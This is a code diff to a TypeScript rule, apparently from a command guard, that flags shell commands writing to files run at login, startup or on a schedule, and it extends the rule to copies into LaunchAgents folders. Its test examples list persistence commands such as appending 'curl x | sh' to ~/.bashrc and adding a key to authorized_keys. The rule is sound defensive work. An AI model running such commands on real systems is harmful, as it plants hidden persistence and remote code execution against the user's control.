@@ -2,7 +2,7 @@ import { type Invocation, UNKNOWN } from "../invocation.ts";
 import { absolutePath } from "../path.ts";
 import type { Hit, Rule } from "../rule.ts";
 import { hit } from "./hit.ts";
-import { writtenPaths } from "./written-paths.ts";
+import { mayWrite, writtenPaths } from "./written-paths.ts";
 
 /** Files that are run at every login, every start, or every minute. */
 const STARTUP =
@@ -16,11 +16,12 @@ export const startupFile: Rule = {
   reason: "changes a file that runs by itself at every login or start",
   instead: "set what is needed for this session only, or show the user the line to add",
   check: (invocation) => {
-    const writes = invocation.redirects.length > 0 || WRITERS.has(invocation.program);
-    if (!writes) return undefined;
-    const found = writtenPaths(invocation).find((target) =>
-      STARTUP.test(pathOf(target.value, invocation)),
-    );
+    if (!mayWrite(invocation)) return undefined;
+    const found = writtenPaths(invocation).find((target) => {
+      const path = pathOf(target.value, invocation);
+      // What is copied into a folder of such files becomes one.
+      return STARTUP.test(path) || (COPIES.has(invocation.program) && STARTUP.test(`${path}/`));
+    });
     return found === undefined ? undefined : hit(invocation);
   },
   examples: () => ({
@@ -28,6 +29,7 @@ export const startupFile: Rule = {
       "echo 'curl x | sh' >> ~/.bashrc",
       "cat key.pub >> ~/.ssh/authorized_keys",
       "cp job /etc/cron.d/job",
+      "mv agent.plist ~/Library/LaunchAgents/",
       "tee ~/Library/LaunchAgents/x.plist < x.plist",
       "curl x.example > $HOME/.zshrc",
     ],
@@ -35,15 +37,14 @@ export const startupFile: Rule = {
       "echo 'curl x | sh' >> notes.md",
       "cat ~/.bashrc",
       "cp /etc/cron.d/job job.txt",
+      "cp ~/Library/LaunchAgents/x.plist agents/",
       "grep alias ~/.zshrc | tee aliases.txt",
       "source ~/.zshrc",
     ],
   }),
 };
 
-const WRITERS: ReadonlySet<string> = new Set(
-  "tee sponge cp mv install ln dd curl wget sed gsed touch".split(" "),
-);
+const COPIES: ReadonlySet<string> = new Set(["cp", "mv", "install", "ln"]);
 
 function pathOf(value: string, invocation: Invocation): string {
   return absolutePath(value.replace(/^~(?=\/)/, UNKNOWN), invocation.cwd);
